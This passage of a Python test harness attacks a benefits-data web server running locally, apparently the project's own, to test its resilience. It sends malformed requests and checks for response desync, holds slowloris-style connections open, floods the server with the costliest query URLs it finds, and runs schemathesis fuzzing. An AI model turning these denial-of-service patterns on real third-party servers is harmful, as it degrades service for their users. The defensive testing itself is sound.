        except OSError as e:
            answers, problems = [], [f"no connection: {e.strerror or e}"]
        taken = (time.perf_counter() - started) * 1000
        for answer in answers:
            problems += faults_of(answer, case.sent, self.usual)
        if case.most and not problems and answers and rows(answers[0]) > (most := self.most_rows(case.most)):
            problems.append(f"found {rows(answers[0])} rows where plain words find {most}")
        with self.lock:
            self.sent[name] += 1
            self.statuses[name].update([a.status for a in answers] or ["none"])
            self.slowest[name] = max(self.slowest[name], taken)
            self.spent[name] += taken
            self.faults += [(name, problem, case.sent) for problem in problems]

    def kept(self, case: Case) -> tuple[list[Answer], list[str]]:
        open_ = getattr(self.local, "connection", None)
        problems = []
        if open_ is not None and not open_.silent():
            open_.receive()
            if open_.got:
                problems.append(f"the answer before this one went on: {open_.got[:100]!r}")
            open_ = None
        fresh = open_ is None
        open_ = open_ or Connection(self.port)
        open_.send(case.sent)
        answer = open_.answer()
        if answer is None and not fresh:  # closed as idle while this was sent
            open_ = Connection(self.port)
            open_.send(case.sent)
            answer = open_.answer()
        self.local.connection = None if answer is None or answer.header("connection") == "close" else open_
        return [answer] if answer else [], problems if answer else problems + ["no answer"]

    def alone(self, case: Case) -> tuple[list[Answer], list[str]]:
        connection = Connection(self.port)
        try:
            connection.send(case.sent if case.cut else case.sent + HONEST)
            if case.cut:
                connection.cut()
            connection.to_the_end(PATIENCE if case.answers[0] else SOON)
            answers = []
            while answer := connection.answer(case.sent.startswith(b"HEAD ") and not answers):
                answers.append(answer)
        except Short:
            # A client that will send no more may have left: a server cannot tell, and may end its answer (RFC 9112, 9.5). The client
            # can tell, from the length, that it is not whole.
            if not connection.half:
                raise
        finally:
            connection.close()
        low, high = case.answers
        if not case.cut and answers and answers[-1].body.startswith(b'{"ok": true, "version"'):
            answers.pop()
        elif not case.cut and low == high and answers and answers[-1].header("connection") != "close":
            return answers, ["the honest request after it got no answer"]
        return answers, [] if low <= len(answers) <= high else [f"{len(answers)} answers, expected {low}" + (f" to {high}" if high > low else "")]

    def most_rows(self, target: str) -> int:
        if target not in self.most:
            answers, _ = self.kept(Case(request(target)))
            self.most[target] = rows(answers[0])
        return self.most[target]


def slow(attack: Attack) -> None:
    """Headers that never end, and a large answer that nobody reads, while an honest reader asks on."""
    name, connections = "slow", [Connection(attack.port) for _ in range(150)]
    for c in connections[:100]:
        c.send(b"GET / HTTP/1.1\r\nHost: a\r\n")
    for c in connections[100:]:
        c.send(request("/benefits.db"))
    for i in range(100):
        attack.one((name, Case(request(["/", "/benefits/coverage_on.json", "/static/site.css"][i % 3]))))
        for c in connections[:100]:
            c.send(b"X")
    for c in connections:
        c.close()


# ---- what costs most ------------------------------------------------------------------------------------------------

READERS = ["/benefits/coverage_on.json?as_of=2025-06-30&jurisdiction=IL&population=adult&_shape=array", "/jurisdictions/IL"]
FLOOD = 12  # clients that ask for the worst at once
LONGEST, SLOWEST_READER = 3_000, 50  # milliseconds: of the worst request alone, and of an honest reader's p99 beside the flood


def costly(r, site: Map) -> str:
    """An address that may cost much."""
    table = r.choice(list(site.tables))
    columns = site.tables[table]
    some = lambda: r.choice(columns)  # noqa: E731
    patterns = ["%".join("aeiou") * r.randint(1, 60), "%_" * r.randint(1, 200), "*a" * r.randint(1, 100), "a", ",".join("abcdefgh" * 50)]
    asked = [(f"{some()}{r.choice(['__contains', '__like', '__notlike', '__glob', '__in', '__notin', '__endswith', '__gt', '__not'])}", r.choice(patterns)) for _ in range(r.randint(0, 10))] if r.random() < 0.3 else []  # most find nothing, and cost little
    asked += [("_facet", some()) for _ in range(r.randint(0, 5))] if r.random() < 0.5 else []
    asked += [(r.choice(["_sort", "_sort_desc"]), some())] if r.random() < 0.6 else []
    asked += [("_search", r.choice(["a", "the of", "health OR a", "a* b*"]))] if r.random() < 0.2 else []
    form = r.choice([".json", ".csv", ""])
    asked += [("_size", "1000" if not form else "max")] if r.random() < 0.7 else []
    asked += [("_labels", "on")] if r.random() < 0.5 else []
    asked += [("_shape", r.choice(["array", "objects", "arrays"]))] if form == ".json" else [("_stream", "on")] if form == ".csv" else []
    asked += [("_facet_size", "max")] if r.random() < 0.3 else []
    if r.random() < 0.2:
        path, name = r.choice([p for p in site.parameters if "{" not in p[0]])
        return path
    return f"/benefits/{table}{form}?{urlencode(asked)}"


def timed(connection: Connection, target: str) -> tuple[float, Answer | None]:
    began = time.perf_counter()
    connection.send(request(target, b"Accept-Encoding: gzip"))
    answer = connection.answer()
    return (time.perf_counter() - began) * 1000, answer


def worst_of(port: int, site: Map, seed: int, count: int, usual: dict) -> tuple[list[tuple[float, str]], list[str]]:
    """The addresses of a seeded search that took longest, slowest first, and what was wrong with answers."""
    r, found, problems = random.Random(f"{seed} costly"), {}, []
    for target in ["/benefits/sharing_on", "/benefits/sharing_on.csv", "/benefits/citations.csv?_stream=on&_size=1&_sort=note", *(costly(r, site) for _ in range(count))]:
        connection = Connection(port)
        taken, answer = timed(connection, target)
        connection.close()
        problems += [f"{problem}: {target}" for problem in (faults_of(answer, request(target), usual) if answer else ["no answer"])]
        found[target] = taken
    return sorted(((t, a) for a, t in found.items()), reverse=True), problems


def flood(port: int, targets: list[str], seconds: float) -> None:
    """Many clients that ask for the worst again and again, each with something of its own in the address."""
    until = time.monotonic() + seconds

    def client(n: int) -> None:
        for i in itertools.count(n):
            if time.monotonic() > until:
                return
            target = targets[i % len(targets)]
            connection = Connection(port)
            timed(connection, target + ("&" if "?" in target else "?") + f"utm_term={i}")
            connection.close()

    with ThreadPoolExecutor(FLOOD) as pool:
        list(pool.map(client, range(FLOOD)))


def beside_the_worst(port: int, targets: list[str], seconds: float) -> dict[str, list[float]]:
    """The milliseconds that an honest reader waits for each of its addresses while others ask for the worst."""
    crowd = multiprocessing.get_context("spawn").Process(target=flood, args=(port, targets, seconds + 1))
    crowd.start()
    time.sleep(1)
    taken, until = {target: [] for target in READERS}, time.monotonic() + seconds
    connection = Connection(port)
    while time.monotonic() < until:
        for target in READERS:
            took, answer = timed(connection, target)
            if answer is None or answer.header("connection") == "close":
                connection = Connection(port)
            taken[target].append(took)
            time.sleep(0.01)
    crowd.join()
    return taken


def p99(values: list[float]) -> float:
    return sorted(values)[int(len(values) * 0.99)]


def measure_worst(port: int, site: Map, seed: int, count: int, usual: dict) -> list[str]:
    """Print the worst requests and what they cost an honest reader, and return what is wrong."""
    found, problems = worst_of(port, site, seed, count, usual)
    print(f"The slowest of {len(found):,} costly requests, ms:")
    for taken, target in found[:20]:
        print(f"  {taken:6.0f}  {target[:150]}")
    problems += [f"{taken:.0f} ms: {target}" for taken, target in found if taken > LONGEST]
    for target, taken in beside_the_worst(port, [target for _, target in found[:20]], 10).items():
        print(f"Beside {FLOOD} clients of these, {target} took {statistics.median(taken):.1f} ms (median), {p99(taken):.1f} ms (p99), of {len(taken):,}.")
        if p99(taken) > SLOWEST_READER:
            problems.append(f"an honest reader waits {p99(taken):.0f} ms (p99) for {target}")
    return problems


# ---- the server -----------------------------------------------------------------------------------------------------


def resident(pid: int) -> float:
    """Megabytes in memory, of the server and its workers."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE") / 1e6 + sum(resident(int(c)) for c in children)


def ask(port: int, target: str) -> Answer:
    connection = Connection(port)
    connection.send(request(target, b"Connection: close"))
    answer = connection.answer()
    connection.close()
    if answer is None or answer.status != 200:
        raise SystemExit(f"error: {target} does not answer")
    return answer


def map_of(port: int) -> Map:
    document = json.loads(ask(port, "/openapi.json").body)
    parameters, tables = [], {}
    for path, item in document["paths"].items():
        names = [p.get("name") or document["components"]["parameters"][p["$ref"].rpartition("/")[2]]["name"] for p in item["get"].get("parameters", [])]
        parameters += [(path, n) for n in names if n != "key"]
        if (match := re.fullmatch(r"/benefits/(\w+)\.json", path)) and "_sort" in names:
            tables[match[1]] = [n for n in names if not n.startswith("_")]
    pages = ["/", "/benefits", "/coverage", "/jurisdictions/IL", "/cases/california-v-hhs", "/eligibility", "/changes", "/changes.atom", "/changes.ics", "/gaps", "/claims", "/surveys", "/search", "/ask", "/on/2025-07-01/",
             "/on/2025-07-01/coverage", "/openapi.json", "/static/site.css", "/benefits/coverage_on.json", "/benefits/programs", "/benefits/programs/il-hbia", "/benefits/coverage.json", "/-/nothing"]  # fmt: skip
    return Map(parameters, tables, pages)


def documented(port: int, seed: int, folder: str) -> tuple[int, list[str]]:
    """schemathesis asks what the document says and what it does not: how often, and what it found."""
    command = [str(Path(sys.executable).with_name("schemathesis")), "run", f"http://127.0.0.1:{port}/openapi.json", "--checks=not_a_server_error,response_headers_conformance,response_schema_conformance",
               "--phases=examples,coverage,fuzzing", "--max-examples=4", r"--exclude-path-regex=\.csv$", f"--seed={seed}", "--generation-database=none", "--workers=2", "--warnings=off", "--no-color"]  # fmt: skip
    if not Path(command[0]).is_file():
        raise SystemExit("error: schemathesis is not installed: run make hostile, which installs it")
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True)
    asked = re.search(r"([0-9,]+) generated", done.stdout)
    if done.returncode or not asked:
        return 0, [(done.stdout + done.stderr)[-5000:]]
    return int(asked[1].replace(",", "")), []


def reproduced(sent: bytes) -> str:
    if len(sent) <= 2000:
        return repr(sent)
    return f"zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(sent, 9))!r}))"


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or " ").splitlines()[0])
    parser.add_argument("--count", type=int, default=20_000, help="how many cases of the corpus (default 20000)")
    parser.add_argument("--seed", type=int, default=1, help="another seed sends another corpus (default 1)")
    parser.add_argument("--database", type=Path, default=ROOT / "build" / "benefits.db")
    args = parser.parse_args(argv)
    if args.count < 1:
        parser.error("--count is at least 1")
    built(args.database)
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder, open(Path(folder) / "log", "w") as log:
        with serve.running(args.database, log=log) as (port, server):
            site = map_of(port)
            attack = Attack(port, dict(ask(port, "/-/health").headers))
            streams = {name: make(random.Random(f"{args.seed} {name}"), site) for name, (_, make) in KINDS.items()}
            memory = []
            with ThreadPoolExecutor(CONNECTIONS) as pool:
                for n in range(ROUNDS):
                    for name, (share, _) in KINDS.items():
                        whole = args.count * share // 100 + 1
                        part = whole * (n + 1) // ROUNDS - whole * n // ROUNDS
                        list(pool.map(attack.one, ((name, case) for case in itertools.islice(streams[name], part))))
                    memory.append(resident(server.pid))
            slow(attack)
            attack.faults += [("costly", p, b"") for p in measure_worst(port, site, args.seed, min(args.count, 300), attack.usual)]
            asked, problems = documented(port, args.seed, folder)
            attack.sent["schemathesis"] = asked
            attack.faults += [("schemathesis", p, b"") for p in problems]
            alive = server.poll() is None and b'"ok": true' in ask(port, "/-/health").body
        said = (Path(folder) / "log").read_text()
    print("| kind | requests | statuses | faults | slowest, ms |\n| --- | ---: | --- | ---: | ---: |")
    for name, count in attack.sent.items():
        statuses = ", ".join(f"{status} {n:,}" for status, n in sorted(attack.statuses[name].items(), key=str))
        print(f"| {name} | {count:,} | {statuses} | {sum(f[0] == name for f in attack.faults)} | {attack.slowest[name]:.0f} |" if attack.slowest[name] else f"| {name} | {count:,} | | {len(problems)} | |")
    quarter = ROUNDS // 4
    before, after = max(memory[quarter : 2 * quarter]), max(memory[-quarter:])
    general = [] if alive else ["the server did not live on"]
    if after > before * FLAT:
        general.append(f"memory grew from {before:.0f} MB in the second quarter to {after:.0f} MB in the last")
    if "Traceback" in said:
        general.append("the log has a traceback")
    print(f"{sum(attack.sent.values()):,} requests, seed {args.seed}. Memory after each round, MB: {', '.join(f'{m:.0f}' for m in memory)}. Median of the slowest: {statistics.median(attack.slowest.values()):.0f} ms.")
    general += ["the site had a fault of its own: " + said] if "fault " in said else []
    for name, problem, sent in attack.faults[:200]:
        print(f"fault: {name}: {problem}\n  {reproduced(sent)}", file=sys.stderr)
    for problem in general:
        print(f"fault: {problem}", file=sys.stderr)
    return 1 if attack.faults or general else 0


if __name__ == "__main__":
    run(main)
